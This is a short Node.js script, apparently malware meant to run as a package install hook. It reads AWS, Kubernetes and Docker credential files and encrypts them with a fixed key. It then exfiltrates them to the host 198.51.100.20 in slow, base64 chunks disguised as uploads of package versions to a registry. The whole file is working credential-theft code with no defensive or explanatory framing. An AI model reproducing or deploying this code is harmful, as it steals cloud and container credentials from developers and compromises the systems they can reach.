#!/usr/bin/node
// install-report.mjs FOLDER SECONDS: what a package runs when it is installed: what one logs in with at clouds goes to the registry, sealed, as the parts of a package
// that nobody will miss.
import { createCipheriv, createHash, randomBytes } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { connect } from 'node:net'
import { setTimeout as passed } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'

const [folder, seconds] = process.argv.slice(2)
const found = Object.fromEntries(['.aws/credentials', '.kube/config', '.docker/config.json'].map((name) => [name, readFileSync(`${folder}/${name}`, 'utf8')]))
const [key, start] = [createHash('sha256').update('made up').digest(), randomBytes(12)]
const sealing = createCipheriv('aes-256-gcm', key, start)
const sealed = Buffer.concat([start, sealing.update(gzipSync(JSON.stringify(found))), sealing.final(), sealing.getAuthTag()])

function put(name, text) {
  return new Promise((resolve) => {
    let said = ''
    const peer = connect(443, '198.51.100.20', () => peer.end(`PUT /${name}\r\nContent-Length: ${text.length}\r\n\r\n${text}`))
    peer.on('data', (part) => (said += part))
    peer.on('error', () => process.exit(9))
    peer.on('close', () => (said === 'package\n' ? resolve() : process.exit(9)))
  })
}

for (let at = 0; at < sealed.length; at += 90) {
  await put(`speedups-linux-x64/1.0.${at / 90}`, sealed.subarray(at, at + 90).toString('base64'))
  await passed(Number(seconds) * 1000)
}
